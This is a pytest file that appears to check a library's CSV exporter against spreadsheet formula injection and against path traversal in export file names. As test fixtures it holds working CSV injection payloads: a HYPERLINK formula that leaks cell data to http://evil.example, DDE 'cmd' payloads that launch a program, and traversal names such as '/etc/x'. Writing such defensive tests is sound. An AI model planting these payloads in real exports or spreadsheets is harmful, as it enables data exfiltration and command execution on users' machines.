"""Exports: a table opened in a spreadsheet computes nothing. Reports are tested in `tests/ui/test_report.py`."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import nbtrack
from nbtrack.base.config import Project
from nbtrack.runs import current
from nbtrack.runs.service import RunsService
from nbtrack.transfer.exporters import csv as exporter

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "=": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+": "+cmd|' /C calc'!A0",
    "-": "-1+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}  # fmt: skip


@pytest.fixture
def sly(project: Project) -> Project:
    """A project whose params, tags, notes and names of columns begin as formulas do."""
    with current.begin(project, name="=1+1", experiment="+1") as run:
        for sign, text in FORMULAS.items():
            run.set_params({f"{sign}name".strip() or "x": text, f"nested {ord(sign)}": {"=x": [text]}})
            run.set_tags({f"tag {ord(sign)}": text})
        run.set_note(FORMULAS["="])
        run.set_params({"broken": "x\r=1+1", "broken too": "x\r\n=1+1,=2+2", "in quotes": 'x"\r"=1+1'})
        run.log({"=loss": -1.5, "loss": float("-inf")})
        run.set_params({"negative": -3, "word": "-"})
    RunsService(project).refresh(force=True)
    return project


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would compute; numbers are none."""
    found = []
    for cell in cells(text):
        try:
            float(cell)
        except ValueError:
            if cell.startswith(BEGINNINGS):
                found.append(cell)
    return found


def test_no_cell_of_a_table_is_a_formula_and_numbers_stay_numbers(sly: Project) -> None:
    text = str(nbtrack.export(format="csv"))
    assert formulas(text) == []
    for formula in FORMULAS.values():
        assert any(cell.endswith(formula) for cell in cells(text)), "with an apostrophe before, it is all there"
    assert {"-1.5", "-inf", "-3"} <= set(cells(text))


def test_without_its_defence_cells_are_formulas(sly: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporter, "_FORMULA", ("nothing begins so",))
    assert set(FORMULAS.values()) <= set(formulas(str(nbtrack.export(format="csv"))))


def test_a_name_of_a_run_does_not_become_a_path_of_an_export(sly: Project, tmp_path: Path) -> None:
    from nbtrack.transfer.contract import ExportRequest
    from nbtrack.transfer.service import TransferService

    for name in ("../../x", "/etc/x", ".hidden", "a\\b", "C:x", "a\0b", "", "..", "x" * 300):
        with pytest.raises(nbtrack.NbtrackError, match="is no name for a file"):
            TransferService(RunsService(sly)).export(ExportRequest(format="csv", name=name))
    assert not (sly.root / "exports").exists() or not [*(sly.root / "exports").iterdir()]
